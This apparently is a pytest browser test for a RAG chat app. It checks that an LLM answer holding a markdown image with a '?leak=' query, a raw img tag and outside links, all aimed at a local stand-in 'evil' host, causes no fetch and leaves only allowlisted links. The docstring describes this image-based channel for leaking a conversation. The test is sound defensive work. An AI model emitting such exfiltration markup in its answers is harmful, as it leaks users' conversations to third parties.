"""An LLM answer holding a remote image and outside links, shown in the real UI in Chromium.

Before the fix, Chromium fetched `![t](http://host/x.png?leak=...)` from an answer: a way to
leak a conversation. The image host here is a real HTTP server on 127.0.0.1 that records hits.
"""

from __future__ import annotations

import base64
import os
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from rag.settings import ROOT
from tests.conftest import DIGESTS, free_port, make_settings, wait_for_port
from tests.fake_openai import FakeOpenAI
from tests.test_ui import CHROMIUM, ask


class ImageHost:
    """Answers every GET with a 1×1 GIF and remembers the paths asked for."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                hits.append(self.path)
                body = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.browser
def test_an_answer_cannot_make_the_browser_fetch_or_link_outside(tmp_path):
    from playwright.sync_api import sync_playwright

    from rag.embed import Embedder
    from rag.index import PaperIndex
    from rag.ingest import ingest

    settings = make_settings(tmp_path)
    ingest([DIGESTS / "2025-01-22.md"], PaperIndex(settings), Embedder(settings))
    host = ImageHost()
    evil = f"http://127.0.0.1:{host.port}"
    answer = (
        f"Agent-R uses MCTS [1] and cites [42]. ![chart]({evil}/x.png?leak=which-papers) "
        f"<img src='{evil}/raw.png'> See [details]({evil}/page), {evil}/bare and "
        "[the paper](https://arxiv.org/abs/2501.11425)."
    )
    port = free_port()
    with FakeOpenAI(answers=[answer]) as llm:
        env = {
            **os.environ,
            "RAG_INDEX_DIR": str(settings.index_dir),
            "RAG_CACHE_DIR": str(settings.cache_dir),
            "RAG_PORT": str(port),
            "RAG_LLM": "openai",
            "RAG_LLM_BASE_URL": llm.base_url,
            "RAG_LLM_MODEL": "ok",
            "RAG_LLM_API_KEY": "k",
        }
        log = (tmp_path / "app.log").open("w")
        proc = subprocess.Popen([sys.executable, str(ROOT / "app.py")], env=env, stdout=log, stderr=subprocess.STDOUT)
        try:
            wait_for_port(port, proc, 120, f"the app (log: {tmp_path / 'app.log'})")
            with sync_playwright() as p:
                browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
                page = browser.new_page()
                asked: list[str] = []
                page.on("request", lambda r: asked.append(r.url) if str(host.port) in r.url else None)
                page.goto(f"http://127.0.0.1:{port}/")
                page.wait_for_selector("#question textarea")
                ask(page, "Which papers use MCTS?")
                page.locator("#chat").get_by_text("the paper").wait_for(timeout=60_000)
                page.wait_for_selector("#chat a[href^='https://arxiv.org/']", timeout=60_000)  # the checked answer
                page.wait_for_timeout(1500)  # give any image the time to load
                hrefs = page.locator("#chat a").evaluate_all("els => els.map(e => e.href)")
                text = page.locator("#chat").inner_text()
                browser.close()
        finally:
            proc.terminate()
            proc.wait(timeout=20)
            host.close()
    assert host.hits == [] and asked == [], f"the browser fetched {host.hits or asked}"
    assert hrefs and all(
        h.startswith(("https://arxiv.org/", "https://huggingface.co/", "https://github.com/")) for h in hrefs
    )
    assert "https://arxiv.org/abs/2501.11425" in hrefs
    assert "[42]" not in text and "image not shown: chart" in text
